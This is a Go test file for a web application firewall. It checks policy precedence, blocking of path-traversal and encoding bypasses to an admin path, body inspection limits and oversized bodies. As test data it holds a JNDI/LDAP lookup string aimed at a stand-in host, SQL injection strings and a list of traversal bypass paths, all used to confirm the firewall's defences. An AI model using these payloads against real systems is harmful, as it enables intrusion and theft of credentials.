package firewall

import (
	"strings"
	"testing"

	"gatehouse/internal/testkit"
)

// places has a policy at each place where there can be one, and none at others.
const places = `
wafPolicy: gateway
listeners:
  - {name: web, address: "$WEB", duplicateSlashes: merge}
  - {name: other, address: "$OTHER", wafPolicy: listener}
pathMaps:
  - name: web
    default: {backendPool: app, backendSettings: plain}
    paths:
      - {paths: [/watched/*], backendPool: app, backendSettings: plain, wafPolicy: watching}
      - {paths: [/open/*], backendPool: app, backendSettings: plain, wafPolicy: "off"}
      - {paths: [/admin*], backendPool: app, backendSettings: plain, wafPolicy: nobody}
rules:
  - {name: web, priority: 1, listener: web, pathMap: web}
  - {name: other, priority: 2, listener: other, pathMap: web}
wafPolicies:
  - {name: gateway, blockResponse: {status: 451}}
  - {name: listener, blockResponse: {status: 452}}
  - {name: watching, mode: detection}
  - {name: "off", state: disabled}
  - name: nobody
    blockResponse: {status: 453}
    customRules: [{name: nobody, priority: 1, match: [{variable: requestUri, operator: any}], action: block}]
`

func TestMostSpecificPolicyWins(t *testing.T) {
	g := start(t, places, nil)
	tests := []struct {
		name, addr, target string
		want               int
	}{
		{"gateway", g.web, "/?" + attack, 451},
		{"listener before gateway", g.other, "/?" + attack, 452},
		{"path that is watched, before gateway", g.web, "/watched/?" + attack, 200},
		{"path that is watched, before listener", g.other, "/watched/?" + attack, 200},
		{"policy switched off", g.web, "/open/?" + attack, 200},
		{"policy switched off, before listener", g.other, "/open/?" + attack, 200},
		{"policy of a path", g.web, "/admin", 453},
		{"policy of a path, before listener", g.other, "/admin/users", 453},
		{"no attack", g.web, "/?id=1", 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if r := testkit.Exchange(t, tt.addr, message("GET", tt.target, "")); r.StatusCode != tt.want {
				t.Errorf("%s, want %d", r.Status, tt.want)
			}
		})
	}
	detected := g.logged("waf.log", "about what was detected", func(e entry) bool { return e["outcome"] == "detected" })
	for _, e := range detected {
		if e["policyId"] != "watching" || e["policyMode"] != "Detection" || e["action"] != "Detected" {
			t.Errorf("line of what was detected: %v", e)
		}
	}
	for _, e := range g.entries("waf.log") {
		if strings.HasPrefix(e["requestUri"].(string), "/open/") {
			t.Errorf("a policy that is off logs %v", e)
		}
	}
}

// What is decided is decided of the path that the backend gets: no other spelling of it leads around its policy.
func TestPolicyOfPathCannotBeWalkedAround(t *testing.T) {
	g := start(t, places, nil)
	for _, target := range []string{
		"/x/../admin", "/x/%2e%2e/admin", "/x/.%2e/admin", "/./admin", "/%61dmin", "/%61%64%6d%69%6e", "//admin", "///admin",
		"/open/../admin", "/open/%2e%2e/admin", "/open/..//admin", "/open/./../admin/users", "/watched/..%2fadmin", "/open/..;/admin",
		"/open/..%5cadmin", `/open/..\admin`, "/open/%252e%252e/admin", "/ADMIN", "/admin%00", "/admin;x=1", "http://shop.test/x/../admin", "/open/%c0%ae%c0%ae/admin",
	} {
		t.Run(target, func(t *testing.T) {
			before := g.backend.RequestCount()
			r := g.get(target)
			if g.backend.RequestCount() == before {
				if r.StatusCode == 200 {
					t.Errorf("%s without the backend", r.Status)
				}
				return
			}
			if got := g.backend.Last().Target; strings.HasPrefix(got, "/admin") || strings.Contains(got, "..") {
				t.Errorf("the backend gets %s", got)
			}
		})
	}
}

func TestBlockedRequestsNeverReachTheBackend(t *testing.T) {
	g := start(t, site+"    requestBody: {inspectLimit: 32KiB}\n", nil)
	padding := "pad=" + strings.Repeat("x", 20<<10) + "&"
	tests := []struct{ name, request string }{
		{"query", message("GET", "/?"+attack, "")},
		{"field", message("GET", "/", "", "X-Api-Version: ${jndi:ldap://evil.test/a}")},
		{"cookie", message("GET", "/", "", "Cookie: "+attack)},
		{"form", message("POST", "/", attack, isForm)},
		{"form, chunked", chunked("/", attack, 7, isForm)},
		{"form, behind padding", message("POST", "/", padding+attack, isForm)},
		{"form, behind padding, chunked", chunked("/", padding+attack, 1000, isForm)},
		{"form, the body longer than what is inspected", message("POST", "/", attack+"&"+strings.Repeat(padding, 10), isForm)},
		{"JSON", message("POST", "/", `{"a":[{"id":"1' UNION SELECT password FROM users-- "}]}`, "Content-Type: application/json")},
		{"multipart", message("POST", "/", "--b\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n1' UNION SELECT password FROM users-- \r\n--b--\r\n",
			"Content-Type: multipart/form-data; boundary=b")},
		{"HEAD", message("HEAD", "/?"+attack, "")},
		{"PUT", message("PUT", "/?"+attack, "a=1", isForm)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := g.ask(tt.request)
			if r.StatusCode != 403 || r.Request != nil && r.Request.Method == "HEAD" && len(r.Content) > 0 {
				t.Errorf("%s %.100q", r.Status, r.Content)
			}
		})
	}
	g.untouched()
}

// A body that is too large is refused by its length, or as soon as it is too long.
func TestBodiesThatAreTooLarge(t *testing.T) {
	g := start(t, site+"    requestBody: {inspectLimit: 16KiB, maxSize: 64KiB}\n", nil)
	body := "a=" + strings.Repeat("x", 100<<10)
	if r := g.ask(message("POST", "/", "", isForm, "Content-Length: 102402")); r.StatusCode != 413 {
		t.Errorf("by its length: %s", r.Status)
	}
	g.untouched()
	if r, err := tryAsk(g, chunked("/", body, 5000, isForm)); err == nil && r.StatusCode != 413 {
		t.Errorf("by what has come: %s", r.Status)
	}
	for _, r := range g.backend.Requests() {
		if r.Complete {
			t.Error("the backend has the whole body")
		}
	}
}

// tryAsk is ask for a gateway that may close before the request is sent.
func tryAsk(g *gateway, request string) (*testkit.Response, error) {
	c := testkit.Dial(g.t, g.web)
	_, _ = c.TrySend(request, soon)
	return c.TryReadResponse("POST", soon)
}
